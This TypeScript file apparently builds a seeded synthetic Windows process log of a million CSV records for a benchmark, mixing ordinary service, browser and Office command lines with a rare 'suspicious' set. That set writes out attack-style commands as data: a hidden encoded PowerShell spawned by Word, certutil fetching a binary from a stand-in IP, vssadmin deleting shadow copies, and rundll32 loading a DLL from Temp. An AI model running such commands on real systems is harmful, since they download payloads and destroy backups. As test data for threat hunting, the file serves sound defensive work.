import { createWriteStream, existsSync, mkdirSync, renameSync, statSync } from 'node:fs';
import path from 'node:path';
import { once } from 'node:events';
import { seededRandom } from '../../sample-case/seededRandom';

export const SYNTHETIC_RECORDS = 1_000_000;

/** The texts measured one by one, in the page and in Python. */
export const ARGUMENT_TEXTS = 200_000;

export interface SyntheticLog {
  readonly file: string;
  readonly bytes: number;
  /** The first `ARGUMENT_TEXTS` values of `arguments`, one a line. */
  readonly argumentsFile: string;
}

const HEADER = 'timestamp,host,user,process_name,parent_process,arguments\n';
const FIRST_RECORD_MS = Date.UTC(2026, 2, 2);
const SPAN_MS = 7 * 24 * 3_600_000;
const RECORDS_A_CHUNK = 5_000;

type Random = ReturnType<typeof seededRandom>;
type Command = (random: Random) => readonly [name: string, parent: string, args: string];

const SERVICES = [
  'netsvcs',
  'LocalService',
  'LocalServiceNetworkRestricted',
  'wsappx',
  'DcomLaunch',
];

/** The endless part of any process log, with the shares of a working day on workstations and servers. */
const ORDINARY: readonly Command[] = [
  (r) => ['svchost.exe', 'services.exe', `-k ${r.pick(SERVICES)} -p -s Svc${r.hex(4)}`],
  (r) => [
    'chrome.exe',
    'chrome.exe',
    `--type=renderer --lang=en --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${r.integer(2, 900)} --launch-time-ticks=${r.hex(10)}`,
  ],
  (r) => [
    'msedgewebview2.exe',
    'Teams.exe',
    `--type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=${r.integer(1_000, 9_999)},i,${r.hex(16)},${r.hex(16)},262144 /prefetch:8`,
  ],
  (r) => [
    'WINWORD.EXE',
    'explorer.exe',
    `/n "C:\\Users\\user${r.integer(1, 400)}\\Documents\\Quarter ${r.integer(1, 4)}\\draft ${r.hex(6)}.docx" /o ""`,
  ],
  (r) => ['MonitoringHost.exe', 'HealthService.exe', `-Embedding {${r.hex(8)}-${r.hex(4)}}`],
  (r) => [
    'powershell.exe',
    'MonitoringHost.exe',
    `-NoProfile -File C:\\ProgramData\\Monitoring\\check_${r.hex(5)}.ps1 -Threshold ${r.integer(70, 95)}`,
  ],
  (r) => ['conhost.exe', 'cmd.exe', `0xffffffff -ForceV1 ${r.integer(1_000, 9_999)}`],
  (r) => [
    'sqlservr.exe',
    'services.exe',
    `-sINST${r.integer(1, 4)} -dD:\\SQL\\master.mdf -eD:\\SQL\\LOG\\ERRORLOG`,
  ],
];

/** What hunts look for: two records in ten thousand. */
const SUSPICIOUS: readonly Command[] = [
  (r) => [
    'powershell.exe',
    'winword.exe',
    `-nop -w hidden -enc ${Buffer.from(r.hex(120), 'utf16le').toString('base64')}`,
  ],
  (r) => ['certutil.exe', 'cmd.exe', `-urlcache -split -f hxxp://203.0.113.7/${r.hex(8)}.bin`],
  () => ['vssadmin.exe', 'cmd.exe', 'delete shadows /all /quiet'],
  (r) => ['rundll32.exe', 'wmiprvse.exe', `C:\\Windows\\Temp\\${r.hex(8)}.dll,#1`],
];

/** Writes the log once and keeps it: the same seed gives the same bytes. */
export async function syntheticProcessLog(folder: string): Promise<SyntheticLog> {
  const file = path.join(folder, 'process_logs.csv');
  const argumentsFile = path.join(folder, 'arguments.txt');
  if (!existsSync(file) || !existsSync(argumentsFile)) {
    mkdirSync(folder, { recursive: true });
    await write(`${file}.part`, `${argumentsFile}.part`);
    renameSync(`${file}.part`, file);
    renameSync(`${argumentsFile}.part`, argumentsFile);
  }
  return { file, bytes: statSync(file).size, argumentsFile };
}

async function write(file: string, argumentsFile: string): Promise<void> {
  const random = seededRandom('bench-process-log');
  const log = createWriteStream(file);
  const texts = createWriteStream(argumentsFile);
  log.write(HEADER);
  for (let first = 0; first < SYNTHETIC_RECORDS; first += RECORDS_A_CHUNK) {
    let records = '';
    let args = '';
    for (let record = first; record < first + RECORDS_A_CHUNK; record++) {
      const [name, parent, text] = commandOf(random);
      const atMs = FIRST_RECORD_MS + Math.floor((record / SYNTHETIC_RECORDS) * SPAN_MS);
      const time = new Date(atMs + random.integer(0, 600)).toISOString();
      const host = `WS-${String(random.integer(1, 400)).padStart(4, '0')}`;
      records += `${time},${host},CORP\\user${random.integer(1, 400)},${name},${parent},${csvField(text)}\n`;
      if (record < ARGUMENT_TEXTS) args += `${text}\n`;
    }
    texts.write(args);
    if (!log.write(records)) await once(log, 'drain');
  }
  log.end();
  texts.end();
  await Promise.all([once(log, 'close'), once(texts, 'close')]);
}

/** What a process log holds, two records in ten thousand suspicious. */
export function commandOf(random: Random): readonly [name: string, parent: string, args: string] {
  return random.pick(random.chance(0.0002) ? SUSPICIOUS : ORDINARY)(random);
}

export function csvField(text: string): string {
  return /[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
